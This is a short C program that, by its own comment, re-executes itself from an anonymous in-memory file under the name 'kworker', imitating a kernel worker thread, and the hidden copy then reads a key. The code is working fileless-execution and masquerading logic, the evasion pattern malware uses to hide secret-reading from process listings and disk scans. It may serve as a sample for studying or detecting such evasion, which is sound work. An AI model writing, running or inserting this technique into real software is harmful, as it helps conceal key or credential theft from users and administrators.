/* Runs a copy of itself that is in memory only, under a harmless name, and that reads a key. */
#define _GNU_SOURCE
#include "read_key.h"

#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>

int main(int count, char **words)
{
	char *again[] = { "kworker", "again", NULL }, *environment[] = { "HOME=" HOME, NULL };
	struct stat size;
	int own, copy;

	(void)words;
	if (!settled())
		return 0;
	if (count > 1)
		return !read_key();
	own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	copy = memfd_create("kworker", MFD_CLOEXEC);
	if (own < 0 || copy < 0 || fstat(own, &size) != 0)
		return 0;
	for (off_t at = 0; at < size.st_size;)
		if (sendfile(copy, own, &at, (size_t)(size.st_size - at)) <= 0)
			return 0;
	fexecve(copy, again, environment);
	return 0;
}
